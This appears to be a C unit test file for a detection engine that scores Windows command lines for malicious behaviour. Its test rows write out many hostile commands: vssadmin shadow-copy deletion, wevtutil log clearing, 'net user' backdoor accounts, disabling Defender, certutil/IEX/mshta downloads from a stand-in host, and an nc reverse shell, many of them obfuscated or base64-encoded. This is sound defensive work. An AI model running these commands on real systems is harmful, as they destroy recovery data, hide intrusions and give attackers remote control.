#include "unit/judged.h"

#include "base/limits.h"

/* Base64 of UTF-16: vssadmin delete shadows /all */
#define ENCODED	"dgBzAHMAYQBkAG0AaQBuACAAZABlAGwAZQB0AGUAIABzAGgAYQBkAG8AdwBzACAALwBhAGwAbAA="

static void
judge_as(struct findings *f, enum language language, const char *line)
{
	const struct value values[] = { { F_CMD_LINE, line }, { F_CMD_LINE, NULL } };
	struct budget b;
	struct fact *o;

	budget_init(&b, NULL, 16u << 20);
	o = fact_of(&b, FACT_COMMAND, values);
	findings_init(f);
	command_judge(&(struct command_context){ .f = f, .b = &b, .o = o }, language, view_str(line));
	fact_free(o);
	assert_int_equal(b.used, 0);
}

static void
judge(struct findings *f, const char *line)
{
	judge_as(f, LANGUAGE_NONE, line);
}

/* ---- What is wrapped ---- */

struct wrapped {
	enum rule	 rule;
	const char	*line;
};

static void
check(const struct wrapped *rows, size_t n)
{
	struct findings f;
	char names[1024];

	for (size_t i = 0; i < n; i++) {
		judge(&f, rows[i].line);
		if (!f.has[rows[i].rule])
			fail_msg("%s: no %s, but%s", rows[i].line, rule_info[rows[i].rule].name,
			    names_of(&f, names, sizeof(names)));
	}
}

static void
inside_cmd(void **state)
{
	static const struct wrapped rows[] = {
		{ R_RECOVERY_INHIBITED, "cmd /c vssadmin delete shadows /all" },
		{ R_RECOVERY_INHIBITED, "cmd.exe /d /q /k vssadmin delete shadows /all" },
		{ R_RECOVERY_INHIBITED, "cmd/cvssadmin delete shadows /all" },
		{ R_RECOVERY_INHIBITED, "C:\\Windows\\System32\\cmd /c vssadmin delete shadows /for=C:\\a.exe" },
		{ R_RECOVERY_INHIBITED, "C:\\Windows\\..\\Windows\\System32\\cmd.exe /Q /c "
		    "vssadmin delete shadows /all" },
		{ R_RECOVERY_INHIBITED, "\"cmd.exe\" /s /c \"vssadmin delete shadows /all\"" },
		{ R_RECOVERY_INHIBITED, "%comspec% /c vssadmin delete shadows /all /quiet" },
		{ R_RECOVERY_INHIBITED, "%COMSPEC% /b /c start /b /min vssadmin delete shadows /all" },
		{ R_DOWNLOAD, "cmd /c cmd /c \"cmd /c certutil -urlcache -f http://203.0.113.5/a a.exe\"" },
		{ R_DOWNLOAD, "cmd /c \"cmd /c \"certutil -urlcache -f http://203.0.113.5/a a.exe\"\"" },
		{ R_DOWNLOAD_RUN, "cmd /c start /min \"\" powershell -nop -w hidden -c "
		    "\"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a')\"" },
		{ R_PROXY_EXECUTION, "start \"\" /b mshta http://203.0.113.5/a.hta" },
		{ R_LOGS_CLEARED, "cmd /c call wevtutil cl Security" },
		{ R_LOGS_CLEARED, "cmd /c call call wevtutil cl Security" },
		{ R_ACCOUNT_CHANGED, "cmd /c for %i in (1) do net user eve /add" },
		{ R_ACCOUNT_CHANGED, "cmd /c (net user eve /add)" },
		{ R_ACCOUNT_CHANGED, "cmd /c if 1==1 (net user eve /add) else (echo no)" },
		{ R_RECOVERY_INHIBITED, "cmd /c \"if not exist C:\\x vssadmin delete shadows /all\"" },
		{ R_DISCOVERY, "cmd /c for /f \"delims=\" %i in ('whoami /all') do echo %i" },
		{ R_RECOVERY_INHIBITED, "cmd /c ver|vssadmin delete shadows /all" },
		{ R_RECOVERY_INHIBITED, "cmd /c exit||vssadmin delete shadows /all" },
		{ R_RECOVERY_INHIBITED, "cmd /c cd \\ && vssadmin delete shadows /all" },
		{ R_ACCOUNT_CHANGED, "ping -n 5 127.0.0.1 & net localgroup administrators eve /add" },
		{ R_RECOVERY_INHIBITED, "cmd /c \"set x=vssadmin&& set y=delete shadows&& call %x% %y% /all\"" },
		{ R_PROXY_EXECUTION, "cmd /v:on /c \"set p=msh&&set q=ta&&!p!!q! http://203.0.113.5/a.hta\"" },
		{ R_ACCOUNT_CHANGED, "c^md /c n^et u^ser eve /add" },
		{ R_OBFUSCATED, "c^md /c n^et u^ser eve /add" },
		{ R_ACCOUNT_CHANGED, "cmd /c \"n\"\"et\" user eve /add" },
		{ R_OUTPUT_CAPTURED, "cmd /c whoami > %windir%\\Temp\\abcd.tmp 2>&1" },
		{ R_OUTPUT_CAPTURED, "cmd /T:fg /Q /C whoami > \\Windows\\Temp\\AbCdEfGh 2>&1" },
		{ R_OUTPUT_CAPTURED, "cmd /Q /c cd 1> \\\\127.0.0.1\\ADMIN$\\__1700000000.12 2>&1" },
	};

	(void)state;
	check(rows, sizeof(rows) / sizeof(*rows));
}

static void
inside_powershell(void **state)
{
	static const struct wrapped rows[] = {
		{ R_ACCOUNT_CHANGED, "powershell -c \"net user eve /add\"" },
		{ R_RECOVERY_INHIBITED, "powershell \"& vssadmin delete shadows /all\"" },
		{ R_RECOVERY_INHIBITED, "pwsh -c 'vssadmin delete shadows /all'" },
		{ R_RECOVERY_INHIBITED, "cmd /c powershell -c \"cmd /c 'vssadmin delete shadows /all'\"" },
		{ R_DEFENCES_OFF, "powershell -Command "
		    "\"& {Set-MpPreference -DisableRealtimeMonitoring $true}\"" },
		{ R_DEFENCES_OFF, "cmd /c \"powershell -c \\\"Add-MpPreference -ExclusionPath C:\\\\\\\"\"" },
		{ R_INVOKE_EXPRESSION, "powershell -Command Invoke-WebRequest http://203.0.113.5/a.ps1 | iex" },
		{ R_RECOVERY_INHIBITED, "powershell -e " ENCODED },
		{ R_RECOVERY_INHIBITED, "powershell -ec " ENCODED },
		{ R_RECOVERY_INHIBITED, "powershell -nop -w 1 -eNc " ENCODED },
		{ R_RECOVERY_INHIBITED, "powershell /enco " ENCODED },
		{ R_RECOVERY_INHIBITED, "powershell \xe2\x80\x93" "encodedcommand " ENCODED },
		{ R_ENCODED_COMMAND, "powershell -NoProfile -EncodedCommand " ENCODED },
		{ R_RECOVERY_INHIBITED, "cmd /c echo x & powershell -enc " ENCODED " C:\\a b.exe" },
		{ R_ACCOUNT_CHANGED, "powershell -c \"Start-Process cmd -ArgumentList '/c net user eve /add'\"" },
		{ R_PROGRAM_WRITABLE, "powershell -c \"Start-Process -FilePath 'C:\\Users\\Public\\a.exe'\"" },
		{ R_PROXY_EXECUTION, "powershell -c \"saps rundll32 'C:\\Users\\Public\\a.dll,Run'\"" },
		{ R_PROXY_EXECUTION, "powershell -c "
		    "\"[Diagnostics.Process]::Start('mshta','http://203.0.113.5/a')\"" },
		{ R_RECOVERY_INHIBITED, "powershell -c \"iex ('vssadmin dele' + 'te shad' + 'ows /all')\"" },
		{ R_ACCOUNT_CHANGED, "powershell -c \"$a='net us'; $b='er eve /add'; iex ($a+$b)\"" },
		{ R_LOGS_CLEARED, "powershell -c \"& ('cm'+'d') /c wevtutil cl System\"" },
		{ R_RECOVERY_INHIBITED, "powershell -c \"iex ([Text.Encoding]::Unicode.GetString("
		    "[Convert]::FromBase64String('" ENCODED "')))\"" },
		{ R_ACCOUNT_CHANGED, "powershell -c \"Invoke-Command -ComputerName srv7 -ScriptBlock "
		    "{ net user eve /add }\"" },
	};

	(void)state;
	check(rows, sizeof(rows) / sizeof(*rows));
}

static void
inside_others(void **state)
{
	static const struct wrapped rows[] = {
		{ R_ACCOUNT_CHANGED, "forfiles /p c:\\windows\\system32 /m notepad.exe /c "
		    "\"cmd /c net user eve /add\"" },
		{ R_PROXY_EXECUTION, "forfiles.exe /c \"mshta http://203.0.113.5/a.hta\"" },
		{ R_RECOVERY_INHIBITED, "wmic process call create \"cmd /c vssadmin delete shadows /all\"" },
		{ R_RECOVERY_INHIBITED, "wmic /node:srv7 process call create 'powershell -enc " ENCODED "'" },
		{ R_ACCOUNT_CHANGED, "conhost.exe cmd /c net user eve /add" },
		{ R_ACCOUNT_CHANGED, "sc create x binPath= \"cmd /c net user eve /add\"" },
		{ R_RECOVERY_INHIBITED, "psexec \\\\srv7 -s cmd /c vssadmin delete shadows /all" },
		{ R_PROXY_EXECUTION, "runas /user:CONTOSO\\eve \"mshta http://203.0.113.5/a.hta\"" },
		{ R_PROGRAM_WRITABLE, "schtasks /create /tn x /tr C:\\Users\\Public\\a.exe /sc once /st 10:00" },
		{ R_PROGRAM_WRITABLE, "schtasks /create /tn x /tr "
		    "\"'C:\\Users\\Public\\a b.exe' /q\" /sc onlogon" },
		{ R_RECOVERY_INHIBITED, "schtasks /create /tn x /tr "
		    "\"cmd /c \\\"powershell -enc " ENCODED "\\\"\" /sc onstart" },
		{ R_AS_SYSTEM, "cmd /c schtasks /create /tn x /tr C:\\Jobs\\a.cmd /sc daily /ru SYSTEM" },
		{ R_SECOND_HOP, "cmd /c schtasks /create /s srv7 /tn x /tr C:\\Jobs\\a.cmd /sc daily" },
		{ R_PROGRAM_WRITABLE, "powershell -c \"Register-ScheduledTask -TaskName x -Action "
		    "(New-ScheduledTaskAction -Execute 'C:\\Users\\Public\\a.exe')\"" },
	};

	(void)state;
	check(rows, sizeof(rows) / sizeof(*rows));
}

/* Paths with blanks, quotes of all kinds, and what logs make of them. */
static void
paths(void **state)
{
	static const struct wrapped rows[] = {
		{ R_PROGRAM_WRITABLE, "C:\\Users\\Public\\a.exe" },
		{ R_PROGRAM_WRITABLE, "C:\\Users\\Public\\Documents\\a tool.exe -q" },
		{ R_PROGRAM_WRITABLE, "\"C:\\Users\\Public\\a b.exe\" /s" },
		{ R_PROGRAM_WRITABLE, "\"C:\\Users\\Public\\a b.exe" },
		{ R_PROGRAM_WRITABLE, "'C:\\Users\\Public\\a.exe' -x" },
		{ R_PROGRAM_WRITABLE, "%PUBLIC%\\a b.exe" },
		{ R_PROGRAM_WRITABLE, "C:\\Program Files\\Contoso\\..\\..\\Users\\Public\\a.exe /silent" },
		{ R_PROGRAM_WRITABLE, "\"C:\\Program Files\\Contoso\\..\\..\\Users\\Public\\a.exe\"" },
		{ R_PROXY_EXECUTION, "\"\"C:\\Windows\\System32\\mshta.exe\" \"http://203.0.113.5/a.hta\"\"" },
		{ R_ACCOUNT_CHANGED, "\"cmd /c net user eve /add\"" },
		{ R_ACCOUNT_CHANGED, "\"net user eve /add" },
		{ R_SCRIPT_WRITABLE, "C:\\Windows\\System32\\wscript C:\\Users\\Public\\a.vbs" },
		{ R_TUNNEL, "C:\\Tools\\nc 203.0.113.5 4444 -e cmd.exe" },
		{ R_MASQUERADED_PROGRAM, "C:\\Windows \\System32\\fodhelper.exe" },
	};

	(void)state;
	check(rows, sizeof(rows) / sizeof(*rows));
}

/* ---- What administrators do ---- */

static const char *const everyday[] = {
	"powershell.exe -NoProfile -ExecutionPolicy Bypass -File \"C:\\Scripts\\My Logs.ps1\" -D 14",
	"powershell.exe -NoLogo -NonInteractive -ExecutionPolicy RemoteSigned -File D:\\Ops\\health.ps1",
	"powershell -NoProfile -WindowStyle Hidden -File C:\\ProgramData\\Contoso\\Agent\\collect.ps1",
	"powershell.exe -Command \"dir D:\\Logs -Recurse | ? Length -gt 1GB | Remove-Item -Force\"",
	"powershell.exe -Command \"& 'C:\\Scripts\\Send-Report.ps1' -To ops@contoso.example\"",
	"powershell.exe -Command \"Restart-Service -Name W3SVC; Start-Sleep 20; Get-Service W3SVC\"",
	"powershell.exe -Command \"Get-ADUser -Filter * | Export-Csv D:\\Reports\\users.csv\"",
	"powershell.exe -Command Get-Process | Out-File D:\\Reports\\processes.txt",
	"powershell.exe -Command \"Compress-Archive -Path D:\\Logs\\* -DestinationPath E:\\Logs.zip\"",
	"powershell.exe -Command \"Invoke-WebRequest -UseBasicParsing https://ok.contoso.example/ping\"",
	"powershell.exe -Command \"Update-Help -Force\"",
	"powershell.exe -Command \"Optimize-Volume -DriveLetter D -ReTrim\"",
	"powershell.exe -Command \"Checkpoint-Computer -Description 'before patching'\"",
	"powershell.exe -Command \"Get-WindowsUpdate -Install -AcceptAll -AutoReboot\"",
	"powershell.exe -Command \"Backup-SqlDatabase -ServerInstance SQL01 -Database app\"",
	"powershell.exe -Command \"Start-Process -FilePath 'C:\\Program Files\\Contoso\\sync.exe' -Wait\"",
	"powershell.exe -Command \"Restart-Computer -Force\"",
	"\"C:\\Program Files\\PowerShell\\7\\pwsh.exe\" -NoProfile -File C:\\Scripts\\sync.ps1",
	"cmd.exe /c \"C:\\Scripts\\nightly.cmd\" > C:\\Logs\\nightly.log 2>&1",
	"cmd.exe /c D:\\Jobs\\export.bat >> D:\\Jobs\\export.log",
	"cmd.exe /c \"powershell -ExecutionPolicy Bypass -File C:\\Jobs\\a.ps1 >> C:\\Logs\\a.log 2>&1\"",
	"cmd /c \"cd /d D:\\App && run.bat --once\"",
	"cmd.exe /c start /min C:\\Scripts\\tray.bat",
	"cmd /c \"robocopy D:\\Data \\\\BKP01\\data /MIR /R:1 /W:1 /LOG+:D:\\Logs\\copy.log & exit 0\"",
	"cmd.exe /c forfiles /p \"D:\\Backup\" /s /m *.bak /d -14 /c \"cmd /c del @path\"",
	"cmd.exe /c \"for /d %i in (D:\\Stage\\*) do rd /s /q %i\"",
	"cmd.exe /c if exist D:\\Flag\\go.txt call D:\\Jobs\\go.cmd",
	"cmd.exe /c net stop Spooler & net start Spooler",
	"cmd.exe /c \"set NAME=%COMPUTERNAME%&& call C:\\Scripts\\report.cmd\"",
	"cmd.exe /c del /q /s %TEMP%\\*.tmp",
	"cmd.exe /c copy /y D:\\Export\\today.csv \\\\files02\\import\\",
	"cmd.exe /c echo done > D:\\Flag\\done.txt",
	"cmd.exe /c dir /s /b D:\\Data > C:\\Temp\\listing.txt",
	"cmd.exe /c chkdsk D: > C:\\Windows\\Temp\\chkdsk.log",
	"C:\\Windows\\System32\\cmd /c C:\\Scripts\\nightly.bat",
	"C:\\Windows\\System32\\robocopy.exe C:\\inetpub\\wwwroot \\\\web02\\wwwroot /E /XO",
	"xcopy D:\\Export\\*.csv Z:\\Import /Y /D",
	"%SystemRoot%\\System32\\wbadmin.exe start backup -backupTarget:\\\\nas01\\b -allCritical",
	"%windir%\\system32\\defrag.exe C: /O /U",
	"%windir%\\system32\\cleanmgr.exe /sagerun:1",
	"C:\\Windows\\System32\\shutdown.exe /r /f /t 60 /c \"monthly patching\"",
	"C:\\Windows\\System32\\gpupdate.exe /target:computer /force",
	"C:\\Windows\\System32\\w32tm.exe /resync /nowait",
	"C:\\Windows\\System32\\certutil.exe -pulse",
	"C:\\Windows\\System32\\cscript.exe //B //NoLogo \"C:\\Program Files\\Contoso\\scan.vbs\"",
	"wscript.exe \"\\\\corp.example\\netlogon\\map drives.vbs\"",
	"rundll32.exe C:\\Windows\\System32\\printui.dll,PrintUIEntry /ga /n\\\\print01\\hp",
	"msiexec.exe /i \"\\\\deploy01\\all\\agent 4.2.msi\" /qn /l*v C:\\Windows\\Temp\\agent.log",
	"C:\\Windows\\System32\\sc.exe start MSSQLSERVER",
	"C:\\Windows\\System32\\wevtutil.exe epl Application D:\\Archive\\app.evtx",
	"C:\\Windows\\System32\\logman.exe start \"Nightly Counters\"",
	"C:\\Windows\\System32\\schtasks.exe /run /tn \"\\Contoso\\Nightly Export\"",
	"C:\\Windows\\System32\\dism.exe /Online /Cleanup-Image /StartComponentCleanup",
	"C:\\Windows\\System32\\chkdsk.exe D: /scan",
	"C:\\Windows\\System32\\vssadmin.exe create shadow /for=D:",
	"C:\\Windows\\System32\\tzutil.exe /s \"W. Europe Standard Time\"",
	"C:\\Windows\\System32\\taskkill.exe /f /im excel.exe",
	"C:\\Windows\\System32\\reg.exe export HKLM\\SOFTWARE\\Contoso D:\\Backup\\contoso.reg /y",
	"C:\\Windows\\System32\\inetsrv\\appcmd.exe recycle apppool \"DefaultAppPool\"",
	"C:\\Windows\\CCM\\ccmeval.exe",
	"\"C:\\Program Files\\7-Zip\\7z.exe\" a -tzip E:\\Archive\\logs.zip D:\\Logs\\*.log -sdel",
	"C:\\Program Files\\Contoso\\Backup and Restore\\manager.exe -s nightly",
	"SQLCMD.EXE -S SQL01 -E -i D:\\Jobs\\reindex.sql -o D:\\Logs\\reindex.log",
	"\"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe\" /ua /installsource scheduler",
	"%LOCALAPPDATA%\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe",
	"C:\\Users\\anna\\AppData\\Local\\Zoom\\bin\\installer.exe --update",
	"\"C:\\ProgramData\\Contoso\\Updater\\updater.exe\" --silent --channel stable",
	"C:\\ProgramData\\chocolatey\\bin\\choco.exe upgrade all -y --no-progress",
	"C:\\Python311\\python.exe D:\\Jobs\\etl.py --date yesterday",
	"\"C:\\Program Files\\Java\\jre\\bin\\java.exe\" -Xmx512m -jar \"D:\\App\\batch runner.jar\"",
	"C:\\php\\php.exe -f C:\\inetpub\\app\\artisan schedule:run",
	"\"C:\\Program Files\\Git\\bin\\git.exe\" -C D:\\Repo pull --ff-only",
	"D:\\Oracle\\bin\\rman.exe target / cmdfile=D:\\Jobs\\full.rman log=D:\\Logs\\full.log",
	"D:\\Jobs\\import.exe /config:D:\\Jobs\\import.xml",
	"ssh.exe backup@nas01 \"zfs snapshot tank/data@nightly\"",
	"\\\\files02\\scripts\\inventory.bat",
};

static void
everyday_is_benign(void **state)
{
	struct findings f;
	char names[1024];

	(void)state;
	for (size_t i = 0; i < sizeof(everyday) / sizeof(*everyday); i++) {
		judge(&f, everyday[i]);
		if (shipped_score(&f) >= 40)
			fail_msg("%s: %d for%s", everyday[i], shipped_score(&f),
			    names_of(&f, names, sizeof(names)));
	}
}

/* ---- Languages ---- */

static void
languages(void **state)
{
	struct findings f;

	(void)state;
	judge_as(&f, LANGUAGE_POWERSHELL, "$x = 'C:\\Users\\Public\\a.exe'\n& $x");
	assert_true(f.has[R_PROGRAM_WRITABLE]);
	judge_as(&f, LANGUAGE_CMD, "set x=C:\\Users\\Public\\a.exe& call %x%");
	assert_true(f.has[R_PROGRAM_WRITABLE]);
	/* A program gets these as arguments, and knows no variables of PowerShell. */
	judge_as(&f, LANGUAGE_NONE, "D:\\Jobs\\x.exe $x = 'C:\\Users\\Public\\a.exe'");
	assert_false(f.has[R_PROGRAM_WRITABLE]);
}

/* ---- What is told ---- */

static void
decoded_is_told_without_passwords(void **state)
{
	/* $p = ConvertTo-SecureString 'Winter26' -AsPlainText -Force; whoami */
	static const char line[] = "powershell -enc "
	    "JABwACAAPQAgAEMAbwBuAHYAZQByAHQAVABvAC0AUwBlAGMAdQByAGUAUwB0AHIAaQBuAGcAIAAnAFcAaQBu"
	    "AHQAZQByADIANgAnACAALQBBAHMAUABsAGEAaQBuAFQAZQB4AHQAIAAtAEYAbwByAGMAZQA7ACAAdwBoAG8A"
	    "YQBtAGkA";
	static const struct value values[] = { { F_CMD_LINE, line }, { F_CMD_LINE, NULL } };
	struct findings f;
	struct budget b;
	struct fact *o;
	size_t n = 0;

	(void)state;
	budget_init(&b, NULL, 16u << 20);
	o = fact_of(&b, FACT_COMMAND, values);
	for (int twice = 0; twice < 2; twice++) {
		findings_init(&f);
		command_judge(&(struct command_context){ .f = &f, .b = &b, .o = o }, LANGUAGE_NONE,
		    view_str(line));
		assert_true(f.has[R_PASSWORD_CLEAR] && f.has[R_DISCOVERY]);
	}
	for (const struct fact_item *i = NULL; (i = fact_each(o, i)) != NULL;)
		if (i->field == F_DET_DEC_TEXT) {
			n++;
			assert_non_null(strstr(i->str, "whoami"));
			assert_non_null(strstr(i->str, "***"));
			assert_null(strstr(i->str, "Winter26"));
		}
	assert_int_equal(n, 1);
	assert_string_equal(fact_get(o, F_DET_DEC_METHOD), "base64");
	for (enum rule r = 0; r < R_MAX; r++)
		assert_null(strstr(found_detail(&f, r), "Winter26"));
	fact_free(o);
	assert_int_equal(b.used, 0);
}

/* What is judged together shares what may be read. */
static void
work_is_bounded(void **state)
{
	static const struct value none[] = { { F_CMD_LINE, NULL } };
	size_t work = 0, once;
	struct findings f;
	struct budget b;
	struct fact *o;

	(void)state;
	budget_init(&b, NULL, 16u << 20);
	o = fact_of(&b, FACT_COMMAND, none);
	findings_init(&f);
	for (int i = 0; i < 2; i++) {
		once = work;
		command_judge(&(struct command_context){ .f = &f, .b = &b, .o = o, .work = &work },
		    LANGUAGE_NONE, view_str("cmd /c vssadmin delete shadows /all"));
	}
	assert_true(once > 0);
	assert_int_equal(work, 2 * once);
	assert_true(f.has[R_RECOVERY_INHIBITED]);
	work = MAX_SCRIPT_WORK;
	findings_init(&f);
	command_judge(&(struct command_context){ .f = &f, .b = &b, .o = o, .work = &work },
	    LANGUAGE_NONE, view_str("cmd /c vssadmin delete shadows /all"));
	assert_false(found_any(&f));
	fact_free(o);
	assert_int_equal(b.used, 0);
}

/* ---- Lines of actions ---- */

static void
action_as_a_line(void **state)
{
	static const struct {
		const char	*command, *arguments, *line;
	} rows[] = {
		{ "cmd.exe", "/c dir", "cmd.exe /c dir" },
		{ "cmd.exe", "", "cmd.exe" },
		{ "C:\\Jobs\\a.exe", "-x", "C:\\Jobs\\a.exe -x" },
		{ "C:\\My Jobs\\a b.exe", "-x", "\"C:\\My Jobs\\a b.exe\" -x" },
		{ "C:\\My Jobs\\a - b.CMD", "", "\"C:\\My Jobs\\a - b.CMD\"" },
		{ "\"C:\\My Jobs\\a b.exe\"", "-x", "\"C:\\My Jobs\\a b.exe\" -x" },
		{ "C:\\My Jobs\\a b.exe -x", "", "\"C:\\My Jobs\\a b.exe\" -x" },
		{ "%ProgramFiles%\\My Jobs\\a.exe", "", "\"%ProgramFiles%\\My Jobs\\a.exe\"" },
		{ "\\\\srv\\my jobs\\a.bat", "1", "\"\\\\srv\\my jobs\\a.bat\" 1" },
		{ "C:\\Windows\\System32\\cmd /c C:\\a.exe", "", "C:\\Windows\\System32\\cmd /c C:\\a.exe" },
		{ "%windir%\\system32\\wscript a.vbs", "", "%windir%\\system32\\wscript a.vbs" },
		{ "C:\\Tools\\run -q a.exe", "", "C:\\Tools\\run -q a.exe" },
		{ "C:\\Tools\\run D:\\a.exe", "", "C:\\Tools\\run D:\\a.exe" },
		{ "", "", "" },
	};
	struct budget b;
	struct buf out;

	(void)state;
	budget_init(&b, NULL, 1u << 20);
	for (size_t i = 0; i < sizeof(rows) / sizeof(*rows); i++) {
		buf_init(&out, &b, 256);
		assert_true(command_of_action(view_str(rows[i].command), view_str(rows[i].arguments),
		    &out));
		assert_int_equal(out.len, strlen(rows[i].line));
		if (out.len > 0)
			assert_memory_equal(out.p, rows[i].line, out.len);
		buf_free(&out);
	}
	buf_init(&out, &b, 8);
	assert_false(command_of_action(view_str("notepad.exe"), view_str(""), &out));
	buf_free(&out);
}

static void
program_of_a_line(void **state)
{
	static const struct {
		const char	*line, *program, *arguments;
	} rows[] = {
		{ "a.exe", "a.exe", "" },
		{ "a.exe  -x y", "a.exe", "-x y" },
		{ "\"C:\\a b.exe\" -x", "C:\\a b.exe", "-x" },
		{ "\"C:\\a b.exe\"", "C:\\a b.exe", "" },
		{ "\"C:\\a b.exe", "C:\\a b.exe", "" },
		{ "\"\"", "", "" },
		{ "\"", "", "" },
		{ "", "", "" },
	};

	(void)state;
	for (size_t i = 0; i < sizeof(rows) / sizeof(*rows); i++) {
		struct view arguments, program = command_program(view_str(rows[i].line), &arguments);

		assert_int_equal(program.len, strlen(rows[i].program));
		assert_int_equal(arguments.len, strlen(rows[i].arguments));
		if (program.len > 0)
			assert_memory_equal(program.p, rows[i].program, program.len);
		if (arguments.len > 0)
			assert_memory_equal(arguments.p, rows[i].arguments, arguments.len);
	}
}

/* Every beginning of a line, in memory of just its size. */
static void
every_truncation_is_safe(void **state)
{
	static const char line[] = "\"C:\\Program Files\\a b.exe\" /c cmd /c \"po^wershell -enc "
	    ENCODED "\" > %TEMP%\\x & schtasks /create /tn a /tr \"'C:\\x y.exe' -z\" /sc once";
	static const struct value none[] = { { F_CMD_LINE, NULL } };
	struct findings f;
	struct budget b;
	struct fact *o;

	(void)state;
	budget_init(&b, NULL, 16u << 20);
	for (size_t from = 0; from < 2; from++)
		for (size_t n = 0; n < sizeof(line) - from; n++) {
			uint8_t *cut = test_malloc(n > 0 ? n : 1);

			memcpy(cut, line + from, n);
			o = fact_of(&b, FACT_COMMAND, none);
			findings_init(&f);
			command_judge(&(struct command_context){ .f = &f, .b = &b, .o = o }, LANGUAGE_NONE,
			    (struct view){ cut, n });
			fact_free(o);
			test_free(cut);
			assert_int_equal(b.used, 0);
		}
}

/* Memory that ends somewhere: less is found, and all is given back. */
static void
spent_budgets(void **state)
{
	static const struct value none[] = { { F_CMD_LINE, NULL } };
	struct budget facts, b;
	struct findings f;
	struct fact *o;
	bool all = false;

	(void)state;
	budget_init(&facts, NULL, 1u << 20);
	for (size_t limit = 0; limit < 128u << 10; limit += 512) {
		budget_init(&b, NULL, limit);
		o = fact_of(&facts, FACT_COMMAND, none);
		findings_init(&f);
		command_judge(&(struct command_context){ .f = &f, .b = &b, .o = o }, LANGUAGE_NONE,
		    view_str("cmd /c \"powershell -enc " ENCODED "\""));
		all = f.has[R_RECOVERY_INHIBITED];
		fact_free(o);
		assert_int_equal(b.used, 0);
	}
	assert_true(all);
	assert_int_equal(facts.used, 0);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(inside_cmd),
		cmocka_unit_test(inside_powershell),
		cmocka_unit_test(inside_others),
		cmocka_unit_test(paths),
		cmocka_unit_test(everyday_is_benign),
		cmocka_unit_test(languages),
		cmocka_unit_test(decoded_is_told_without_passwords),
		cmocka_unit_test(work_is_bounded),
		cmocka_unit_test(action_as_a_line),
		cmocka_unit_test(program_of_a_line),
		cmocka_unit_test(every_truncation_is_safe),
		cmocka_unit_test(spent_budgets),
	};

	return cmocka_run_group_tests_name("command", tests, NULL, NULL);
}
